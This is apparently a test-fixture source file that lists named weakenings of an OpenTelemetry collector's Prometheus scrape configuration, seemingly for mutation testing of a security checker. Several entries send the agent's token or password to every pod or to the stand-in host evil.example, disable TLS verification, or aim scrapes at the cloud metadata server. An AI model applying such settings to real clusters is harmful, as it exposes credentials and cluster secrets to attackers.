/** Agents that ask other addresses, with credentials, or believe what they are told. */
import { AGENT, CONFIG, set } from "../draft";
import type { Tree, Weakening, Weakenings } from "../draft";

const agent = (path: string, value: unknown): Weakening[1] => set(AGENT, `${CONFIG}/${path}`, value);
const PODS = "receivers/prometheus/config/scrape_configs/0";
const STORE = "receivers/prometheus/config/scrape_configs/4";
const KUBELET = "receivers/prometheus/config/scrape_configs/6";
const CONTAINERS = "receivers/prometheus/config/scrape_configs/7";
const HONOURED = "receivers/prometheus/config/scrape_configs/2";
const VERIFIED = "receivers/prometheus/config/scrape_configs/1";

/** A further receiver that a pipeline uses. */
const receiver =
  (id: string, settings: Tree): Weakening[1] =>
  (stack) => {
    stack.set(AGENT, `${CONFIG}/receivers/${id}`, settings);
    stack.set(AGENT, `${CONFIG}/service/pipelines/metrics~1otlp/receivers/+`, id);
  };

const job = (more: Tree): Weakening[1] =>
  agent("receivers/prometheus/config/scrape_configs/+", { job_name: "x", sample_limit: 1000, ...more });

export const SCRAPES: Weakenings = {
  "token-to-every-pod": [
    "every annotated pod gets the agent's token",
    agent(`${PODS}/authorization`, { credentials_file: "/var/run/secrets/kubernetes.io/serviceaccount/token" }),
  ],
  "token-file-to-every-pod": [
    "the same",
    agent(`${PODS}/bearer_token_file`, "/var/run/secrets/kubernetes.io/serviceaccount/token"),
  ],
  "password-to-every-pod": [
    "every annotated pod gets the store's password",
    agent(`${PODS}/basic_auth`, { username: "agent", password_file: "/etc/otel/remote-write/password" }),
  ],
  "certificate-to-every-pod": [
    "every pod gets a client certificate",
    agent(`${PODS}/tls_config/cert_file`, "/etc/x.crt"),
  ],
  "oauth-to-every-pod": [
    "a token for every pod",
    agent(`${PODS}/oauth2`, { client_id: "x", token_url: "https://evil.example" }),
  ],
  "token-to-another-address": [
    "an address outside gets the agent's token",
    agent(`${KUBELET}/static_configs/+`, { targets: ["evil.example"] }),
  ],
  "token-to-another-port": [
    "whoever has that port of the node gets the agent's token",
    agent(`${CONTAINERS}/relabel_configs/0/replacement`, "$$1:30080"),
  ],
  "token-in-plain-text": ["the agent's token without TLS", agent(`${KUBELET}/scheme`, "http")],
  "token-to-every-discovered-pod": [
    "pods get the agent's token beside the kubelet",
    agent(`${CONTAINERS}/kubernetes_sd_configs`, [
      { role: "pod", selectors: [{ role: "pod", field: "spec.nodeName=${env:KUBE_NODE_NAME}" }] },
    ]),
  ],
  "kubelet-runs-commands": [
    "the agent reads logs and Secrets by the kubelet",
    agent(`${KUBELET}/metrics_path`, "/pods"),
  ],
  "containers-of-another-pod": [
    "a container names the pod whose series it has",
    agent(`${CONTAINERS}/metric_relabel_configs/4/source_labels`, ["image"]),
  ],
  "proxy-for-pods": ["scrapes through a proxy", agent(`${PODS}/proxy_url`, "http://evil.example")],
  "honour-every-pod": [
    "a pod speaks as another job without asking for it",
    agent(`${HONOURED}/relabel_configs/4`, undefined),
  ],
  "services-of-other-nodes": [
    "every agent scrapes every pod of a Service",
    job({ job_name: "kubernetes-services", kubernetes_sd_configs: [{ role: "endpointslice" }] }),
  ],
  "monitored-pods-of-other-nodes": [
    "every agent scrapes every pod that a monitor selects",
    job({ job_name: "monitored-pods", monitor_sd_configs: [{ extension: "monitors" }] }),
  ],
  "monitors-as-they-want": [
    "monitors choose the labels that say whose samples are",
    job({
      job_name: "monitored-pods",
      monitor_sd_configs: [{ extension: "monitors" }],
      relabel_configs: [
        { action: "keep", regex: "${env:KUBE_NODE_NAME}", source_labels: ["__meta_kubernetes_pod_node_name"] },
        { action: "labelmap", regex: "__meta_monitor_label_(.+)", replacement: "$$1" },
      ],
    }),
  ],
  "relabelled-pods-as-they-want": [
    "pods whose samples monitors relabel are scraped in another way",
    agent("receivers/monitors", { extension: "monitors", config: { scrape_configs: [{ job_name: "any" }] } }),
  ],
  "follow-redirects": ["a pod sends the agent anywhere", agent(`${PODS}/follow_redirects`, true)],
  "verified-skip-verify": [
    "pods that want to be verified are not",
    agent(`${VERIFIED}/tls_config/insecure_skip_verify`, true),
  ],
  "verified-http": ["the same, in plain text", agent(`${VERIFIED}/scheme`, "http")],
  "verified-scheme": [
    "a pod turns TLS off",
    agent(`${VERIFIED}/relabel_configs/+`, {
      source_labels: ["__meta_kubernetes_pod_annotation_prometheus_io_scheme"],
      regex: "(https?)",
      target_label: "__scheme__",
      replacement: "$$1",
    }),
  ],
  "verified-twice": ["they are also scraped without", agent(`${PODS}/relabel_configs/3`, undefined)],
  "store-skip-verify": [
    "the password goes to whoever answers",
    agent(`${STORE}/tls_config/insecure_skip_verify`, true),
  ],
  "store-http": ["the password in plain text", agent(`${STORE}/scheme`, "http")],
  "store-job-any-pod": ["the password goes to other pods", agent(`${STORE}/relabel_configs/0/regex`, ".*")],
  "store-job-keep-removed": ["the same", agent(`${STORE}/relabel_configs/0`, undefined)],
  "store-server-name": ["another server's certificate", agent(`${STORE}/tls_config/server_name`, "evil.example")],
  "address-annotation": [
    "a pod names the address that is scraped",
    agent(`${PODS}/relabel_configs/+`, {
      source_labels: ["__meta_kubernetes_pod_annotation_prometheus_io_address"],
      regex: "(.+)",
      target_label: "__address__",
    }),
  ],
  "address-labelmap": [
    "the same by a pattern",
    agent(`${PODS}/relabel_configs/+`, {
      action: "labelmap",
      regex: "__meta_kubernetes_pod_annotation_(address)",
      replacement: "__$1__",
    }),
  ],
  "address-fixed": [
    "every target is the metadata server",
    agent(`${PODS}/relabel_configs/+`, { replacement: "169.254.169.254:80", target_label: "__address__" }),
  ],
  "keep-removed": ["pods that asked for nothing are scraped", agent(`${PODS}/relabel_configs/0`, undefined)],
  "static-metadata": ["the node's token in the store", job({ static_configs: [{ targets: ["169.254.169.254:80"] }] })],
  "http-sd": ["targets from an address", job({ http_sd_configs: [{ url: "https://evil.example/targets" }] })],
  "file-sd": ["targets from a file", job({ file_sd_configs: [{ files: ["/var/lib/otelcol/*.json"] }] })],
  "node-sd": ["kubelets", job({ kubernetes_sd_configs: [{ role: "node" }] })],
  "job-added": [
    "a further job of own pods",
    job({
      kubernetes_sd_configs: [
        { role: "pod", selectors: [{ role: "pod", field: "spec.nodeName=${env:KUBE_NODE_NAME}" }] },
      ],
      honor_labels: true,
    }),
  ],
  "sd-kubeconfig": ["another cluster", agent(`${PODS}/kubernetes_sd_configs/0/kubeconfig_file`, "/tmp/x")],
  "sd-api-server": ["another API server", agent(`${PODS}/kubernetes_sd_configs/0/api_server`, "https://evil.example")],
  "target-allocator": [
    "jobs from an address",
    agent("receivers/prometheus/target_allocator", { endpoint: "http://evil.example" }),
  ],
  "scrape-config-files": ["jobs from files", agent("receivers/prometheus/config/scrape_config_files", ["/tmp/*"])],
  "api-server-receiver": ["an API of the receiver", agent("receivers/prometheus/api_server", { enabled: true })],
  "honor-labels": ["a pod passes for another", agent(`${PODS}/honor_labels`, true)],
  "honor-timestamps": ["a pod's time", agent(`${PODS}/honor_timestamps`, true)],
  "labels-unmapped": ["the same", agent(`${PODS}/metric_relabel_configs`, [])],
  "no-sample-limit": ["one pod fills the store", agent(`${PODS}/sample_limit`, 0)],
  "no-body-size-limit": ["one pod fills the memory", agent(`${PODS}/body_size_limit`, undefined)],
  "no-label-limit": ["one pod fills the store", agent(`${PODS}/label_limit`, undefined)],
  "kubelet-stats-insecure": [
    "every kubelet, unverified",
    receiver("kubelet_stats", {
      auth_type: "serviceAccount",
      endpoint: "https://10.0.0.1:10250",
      insecure_skip_verify: true,
    }),
  ],
  "host-metrics": ["the node's files", receiver("host_metrics", { root_path: "/", scrapers: { process: {} } })],
  filelog: ["logs of every pod", receiver("file_log", { include: ["/var/log/pods/*"] })],
  "k8sobjects-secrets": ["Secrets as logs", receiver("k8sobjects", { objects: [{ name: "secrets" }] })],
  "http-check": ["it asks any address", receiver("http_check", { targets: [{ endpoint: "http://169.254.169.254" }] })],
  opencensus: ["an older protocol", receiver("opencensus", { endpoint: "0.0.0.0:55678" })],
  "jaeger-open": [
    "an older protocol",
    receiver("jaeger", { protocols: { thrift_http: { endpoint: "0.0.0.0:14268" } } }),
  ],
  "every-pod-dropped": [
    "nothing is scraped",
    agent(`${PODS}/relabel_configs/+`, {
      action: "drop",
      regex: ".*",
      source_labels: ["__meta_kubernetes_pod_annotation_prometheus_io_port"],
    }),
  ],
  "only-failed-pods": [
    "no pod that runs is scraped",
    agent(`${PODS}/relabel_configs/2`, {
      action: "keep",
      regex: "Failed",
      source_labels: ["__meta_kubernetes_pod_phase"],
    }),
  ],
  ...Object.fromEntries(
    [
      ["path", "__metrics_path__", "/nothing"],
      ["scheme", "__scheme__", "http"],
      ["interval", "__scrape_interval__", "1y"],
      ["parameter", "__param_x", "/admin"],
    ].map(([id = "", target_label, replacement]): [string, Weakening] => [
      `one-${id}-for-all`,
      [`every pod is asked with one ${id}`, agent(`${PODS}/relabel_configs/+`, { replacement, target_label })],
    ]),
  ),
  "containers-dropped": [
    "containers have no samples",
    agent(`${CONTAINERS}/metric_relabel_configs/+`, { action: "drop", regex: ".*", source_labels: ["__name__"] }),
  ],
  "containers-of-nobody": [
    "nobody knows whose a container is",
    agent(`${CONTAINERS}/metric_relabel_configs/+`, { action: "labeldrop", regex: "k8s_.*" }),
  ],
};
